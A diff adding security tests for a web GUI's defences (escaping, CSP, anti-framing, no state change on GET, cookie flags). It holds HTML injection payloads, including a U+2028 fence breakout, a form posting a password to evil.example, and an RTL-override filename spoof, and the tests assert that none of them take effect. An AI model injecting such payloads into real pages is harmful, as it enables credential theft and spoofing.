@@ -1,0 +1,304 @@
+"""The GUI's defences of issue W3-X (docs/security.md): hostile text shown as text (real
+Chromium: a scraped value with U+2028 and a Markdown fence that used to close `ui.code`'s
+block and become HTML), no state change on GET, the headers on every answer (CSP, no framing:
+a page on another port cannot frame the node page), `/health/ready` saying only ready or not,
+the `Secure` cookie setting."""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import json
+import re
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.gui_browser import child_env, chromium, free_port, have_browser, page_text, serving, sign_in, wait_text
+from tests.gui_fixtures import (FROM_THE_GUI, PASSWORDS, gui_home, gui_process, make_home, sign_in as sign_in_user,  # noqa: F401
+                                user)
+
+pytestmark = pytest.mark.timeout(300)
+BROWSER = pytest.mark.needs(have_browser(), "no chromium + chromium-driver (Debian packages; `make deps` installs them)")
+
+#: the reviewer's payload: a line separator and a fence end `ui.code`'s Markdown block; what
+#: follows was HTML (a sign-out, a requeue of every failed ingest, a form posting elsewhere, a style)
+LS = "\u2028"
+PAYLOAD = (f"x{LS}```{LS}<img id=injected-a src=/logout><img id=injected-b src='/rq/requeue/ingest'>"
+           "<form id=injected-c action='http://evil.example/login' method=post><input name=password></form>"
+           f"<style id=injected-d>body{{display:none}}</style>{LS}```{LS}y")
+#: a title that reverses its end on screen (U+202E RIGHT-TO-LEFT OVERRIDE)
+SPOOF = "report\u202egpj.exe"
+NODE = "ab" * 32
+INJECTED = ("return [...document.querySelectorAll('[id^=injected], img[src$=\"/logout\"], img[src*=requeue], "
+            "form[action*=evil]')].map(e => e.outerHTML)")
+
+
+def _insert_node(conn) -> None:
+    conn.execute("INSERT INTO source (name) VALUES ('gallery') ON CONFLICT DO NOTHING")
+    node_id = conn.execute("INSERT INTO node (sha256, is_virtual, is_physical, created_at) "
+                           "VALUES (decode(%s, 'hex'), false, true, now()) RETURNING node_id", [NODE]).fetchone()[0]
+    conn.execute("INSERT INTO physical_content (node_id, size, file_type) VALUES (%s, 10, 'json')", [node_id])
+    conn.execute("INSERT INTO common_metadata (node_id, source_id, title, author, raw_metadata) "
+                 "SELECT %s, source_id, %s, 'a', %s FROM source WHERE name = 'gallery'",
+                 [node_id, SPOOF, json.dumps({"description": PAYLOAD, PAYLOAD: 1})])
+    conn.commit()
+
+
+def _failed_job(redis_conn, queue: str, job_id: str, exc_string: str):
+    """A job of `queue` in its failed registry, its last result the failure `exc_string`."""
+    from rq import Queue
+    from rq.job import Job, JobStatus
+    from rq.results import Result
+
+    job = Job.create("builtins.print", id=job_id, connection=redis_conn, origin=queue, meta={"kind": "verify"})
+    job.save()
+    job.set_status(JobStatus.FAILED)
+    Result.create_failure(job, 3600, exc_string)
+    Queue(queue, connection=redis_conn).failed_job_registry.add(job, exc_string=exc_string)
+    return job
+
+
+@contextlib.contextmanager
+def _other_origin(html: str) -> Iterator[str]:
+    """Another site's page (another port of this host) serving `html`."""
+    body = html.encode()
+
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - http.server's name
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def served(hoard_home: Path, pg, redis_conn):
+    """`hoard gui` on a free port, the hostile node in its database."""
+    with gui_process(hoard_home, pg, lambda cfg_path: _insert_node(pg), refresh_s=2.0) as (url, _):
+        yield url
+
+
+def _csp_reports(driver) -> list[str]:
+    return [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
+
+
+@BROWSER
+def test_scraped_markup_stays_text_in_chromium(served, redis_conn) -> None:
+    """The node page's raw metadata and the run page's traceback hold the U+2028 payload: no
+    element of it is in the DOM, the separators show as `\\u2028`, the RTL override as
+    `\\u202e`; the viewer stays signed in, the failed ingest job stays failed; the pages run
+    under the CSP without a violation."""
+    url = served
+    ingest_job = _failed_job(redis_conn, "ingest", "ingest-failed-before", "boom")
+    run = _failed_job(redis_conn, "maintenance", "maint-verify-hostile", f"Traceback:\n  File \"{PAYLOAD}\"\nOSError")
+    with chromium() as d:
+        sign_in(d, url, "otto", PASSWORDS["otto"])
+        d.get(f"{url}/node/{NODE}")
+        wait_text(d, "Metadata")
+        time.sleep(1)  # images (had any been made) load
+        assert d.execute_script(INJECTED) == []
+        shown = d.find_element("css selector", "pre").text
+        assert "\\u2028```\\u2028<img id=injected-a src=/logout>" in shown and LS not in shown, shown
+        assert "report\\u202egpj.exe" in page_text(d)
+        assert not _csp_reports(d)
+
+        d.get(f"{url}/runs/verify/{run.id}")
+        wait_text(d, "Traceback (of its last job)")
+        time.sleep(1)
+        assert d.execute_script(INJECTED) == []
+        assert "\\u2028<img id=injected-a src=/logout>" in d.find_element("css selector", "pre").text
+        assert not _csp_reports(d)
+
+        d.get(f"{url}/storage")
+        wait_text(d, "SSD zones")  # still signed in
+        assert "/login" not in d.current_url
+    from rq.job import JobStatus
+
+    assert ingest_job.get_status(refresh=True) == JobStatus.FAILED
+
+
+@BROWSER
+def test_every_page_runs_under_the_policy(served) -> None:
+    """Each page of the GUI, and rq-dashboard's, works in Chromium under the CSP: it shows
+    what it shows, and the browser reports no violation (what NiceGUI, Quasar, Tailwind,
+    ECharts and rq-dashboard need is allowed)."""
+    url = served
+    with chromium() as d:
+        sign_in(d, url, "ada", PASSWORDS["ada"])
+        for path, text in (("/", "Overview"), ("/storage", "SSD zones"), ("/runs", "runs"), ("/launch", "Maintenance"),
+                           ("/batches", "batches"), ("/assets", "assets on page 1"), (f"/node/{NODE}", "Metadata"),
+                           ("/pipelines", "Dataset exports"), ("/users", "vera"), ("/rq/", "Queues")):
+            d.get(f"{url}{path}")
+            wait_text(d, text)
+            time.sleep(0.5)  # charts, fonts, the first refresh
+            assert not _csp_reports(d), (path, _csp_reports(d))
+
+
+@BROWSER
+def test_another_origin_cannot_frame_the_gui(served) -> None:
+    """A page on another port of the same host (same site: the Lax cookie goes along) frames the
+    node page: Chromium refuses to show it (frame-ancestors 'none', X-Frame-Options: DENY)."""
+    url = served
+    with chromium() as d:
+        sign_in(d, url, "vera", PASSWORDS["vera"])
+        with _other_origin(f'<p>look</p><iframe id="f" src="{url}/node/{NODE}" width=800 height=600></iframe>') as evil:
+            d.get(evil)
+            time.sleep(3)
+            d.switch_to.frame(d.find_element("id", "f"))
+            inside = page_text(d)
+            where = d.execute_script("return location.href")
+            d.switch_to.default_content()
+        assert "Metadata" not in inside and "Sign in" not in inside, inside
+        assert not where.startswith(url), where
+        assert any("frame-ancestors" in m for m in _csp_reports(d)), d.get_log("browser")
+
+
+async def test_state_changes_refuse_get(user, redis_conn) -> None:
+    """What an `<img>` or a link makes — a GET, same-origin — acts nowhere: `/logout` and
+    rq-dashboard's actions (its `/requeue/<queue>` requeued every failed job on GET) answer 405."""
+    job = _failed_job(redis_conn, "ingest", "failed-before-get", "boom")
+    await sign_in_user(user, "otto")
+    for path in ("/logout", "/rq/requeue/ingest", "/rq/job/failed-before-get/requeue", "/rq/job/failed-before-get/delete",
+                 "/rq/queue/ingest/failed/empty", "/rq/queue/ingest/compact"):
+        r = await user.http_client.get(path, headers=FROM_THE_GUI, follow_redirects=False)
+        assert r.status_code == 405, (path, r.status_code, r.text)
+    from rq.job import JobStatus
+
+    assert job.get_status(refresh=True) == JobStatus.FAILED
+    assert (await user.http_client.get("/storage", follow_redirects=False)).status_code == 200  # still signed in
+    r = await user.http_client.post("/rq/requeue/ingest", headers=FROM_THE_GUI)  # the dashboard's own button
+    assert r.status_code == 200 and job.get_status(refresh=True) != JobStatus.FAILED
+
+
+def _script_tags(html: str) -> list[str]:
+    return re.findall(r"<script\b[^>]*>", html, re.IGNORECASE)
+
+
+@pytest.mark.expect_log(r"http://test/no/such/thing not found", level="WARNING")
+async def test_every_answer_carries_the_headers(user) -> None:
+    """Every page, the login redirect, a refusal, a 404, the probes, NiceGUI's static files and
+    rq-dashboard's pages: each has the CSP (nonce scripts, no inline script otherwise, no
+    framing, images from this origin only) and X-Frame-Options: DENY; every `<script>` of an
+    HTML answer has that answer's nonce."""
+    client = user.http_client
+    answers = {"redirect": await client.get("/storage", follow_redirects=False),
+               "login": await client.get("/login"),
+               "live": await client.get("/health/live"),
+               "metrics 401": await client.get("/metrics")}
+    await sign_in_user(user, "otto")
+    for path in ("/", "/runs", "/runs?view=failed", "/launch", "/batches", "/assets", "/pipelines", "/users"):
+        answers[path] = await client.get(path)
+        assert answers[path].status_code == 200, path
+    answers |= {"page": await client.get("/storage"), "node": await client.get(f"/node/{NODE}"),
+                "404": await client.get("/no/such/thing"),
+                "405": await client.get("/logout", headers=FROM_THE_GUI),
+                "refused": await client.post("/rq/queue/ingest/failed/empty", headers={"Sec-Fetch-Site": "cross-site"}),
+                "rq": await client.get("/rq/"), "rq json": await client.get("/rq/0/data/queues.json"),
+                "rq static": await client.get("/rq/static/js/jquery-3.5.1.min.js")}
+    page = answers["page"].text
+    static = re.search(r'src="(/_nicegui/[^"]+\.js)"', page)
+    assert static, page[:2000]
+    answers["nicegui static"] = await client.get(static.group(1))
+    for what, r in answers.items():
+        csp = r.headers.get("content-security-policy", "")
+        assert r.headers.get("x-frame-options") == "DENY", what
+        assert "frame-ancestors 'none'" in csp and "img-src 'self' data:;" in csp, (what, csp)
+        script_src = re.search(r"script-src ([^;]*)", csp).group(1)
+        assert "'unsafe-inline'" not in script_src and "'nonce-" in script_src, (what, csp)
+        if r.headers.get("content-type", "").startswith("text/html"):
+            nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
+            tags = _script_tags(r.text)
+            assert tags and all(f'nonce="{nonce}"' in t for t in tags), (what, tags)
+    assert answers["rq"].status_code == 200 and answers["page"].status_code == 200
+    other = (await client.get("/storage")).headers["content-security-policy"]
+    assert other != answers["page"].headers["content-security-policy"]  # a fresh nonce per answer
+
+
+async def test_ready_says_only_ready_or_not(user, gui_home: Path) -> None:
+    """`/health/ready` without a login: `{"ready": …}` only — 503 while `hoard health` finds
+    something wrong (a fresh home: no backup yet), 200 once nothing is; the document (paths,
+    errors) is `/api/health`'s, behind the login."""
+    from nicegui import run
+
+    from gui.context import ctx
+
+    await run.io_bound(ctx().cache.refresh)
+    assert not ctx().cache.snapshot.health["ok"]
+    r = await user.http_client.get("/health/ready")
+    assert r.status_code == 503 and r.json() == {"ready": False}, r.text
+    r = await user.http_client.get("/api/health")
+    assert r.status_code == 401
+    await sign_in_user(user, "vera")
+    r = await user.http_client.get("/api/health")
+    assert r.status_code == 200 and not r.json()["ok"], r.text
+    assert any("no backup was ever taken" in p for p in r.json()["problems"]), r.text
+    res = await run.io_bound(subprocess.run, [sys.executable, "-m", "fsd", "--config", str(gui_home), "db", "backup"],
+                             capture_output=True, text=True, env=child_env(), timeout=120)
+    assert res.returncode == 0, res.stderr
+    await run.io_bound(ctx().cache.refresh)
+    assert ctx().cache.snapshot.health["ok"], ctx().cache.snapshot.health["problems"]
+    user.http_client.cookies.clear()  # signed out: the probe's view
+    r = await user.http_client.get("/health/ready")
+    assert r.status_code == 200 and r.json() == {"ready": True}, r.text
+
+
+def test_secure_cookies_behind_tls(hoard_home: Path, pg) -> None:
+    """`gui.secure_cookies = true` (a TLS proxy in front): the session cookie is Secure;
+    by default (the plain-HTTP listener) it is not, or it would never come back."""
+    port = free_port()
+    cfg_path = make_home(hoard_home, pg, port=port)  # its [gui] table last
+    base = cfg_path.read_text()
+    for secure in (False, True):
+        cfg_path.write_text(base + ("secure_cookies = true\n" if secure else ""))
+        with serving(cfg_path, hoard_home / "gui.log", port) as url:
+            try:
+                with urllib.request.urlopen(f"{url}/login", timeout=10) as r:
+                    cookies = r.headers.get_all("set-cookie") or []
+            except urllib.error.HTTPError as e:
+                raise AssertionError(e.read()) from None
+        session = [c for c in cookies if c.startswith("session=")]
+        assert session, cookies
+        assert ("; secure" in session[0].lower()) == secure, session
+        assert "httponly" in session[0].lower() and "samesite=lax" in session[0].lower()
+
+
+def test_charts_never_make_markup_of_names() -> None:
+    """Every chart's tooltip is off or drawn on the canvas (ECharts' default tooltip is HTML):
+    a source, disk or relative named with markup is never parsed; a relative's name has its
+    hidden characters written out."""
+    from datetime import date
+
+    from gui import charts
+
+    evil = "<img src=/logout>\u202e"
+    options = [charts.disk_usage([{"label": evil, "used_bytes": 1, "free_bytes": 2}]),
+               charts.zone_usage({"3A": {"used_ratio": 0.5}}, (0.8, 0.9, 0.95)),
+               charts.ingested_per_day([{"day": date(2026, 1, 1), "source": evil, "items": 3}]),
+               charts.disk_history([]), charts.zone_history([], (0.8, 0.9, 0.95)),
+               charts.lineage({"node_id": 1, "children": [], "parents": [
+                   {"node_id": 2, "via": 1, "depth": 1, "rel": evil, "is_virtual": True, "virtual_kind": "post",
+                    "stable_id": evil, "sha256": "ab" * 32, "file_type": None}]})]
+    for o in options:
+        assert o["tooltip"] == {"show": False} or o["tooltip"]["renderMode"] == "richText", o["tooltip"]
+    graph = options[-1]["series"][0]
+    assert "\\u202e" in graph["data"][1]["name"] and "\u202e" not in json.dumps(graph, ensure_ascii=False)
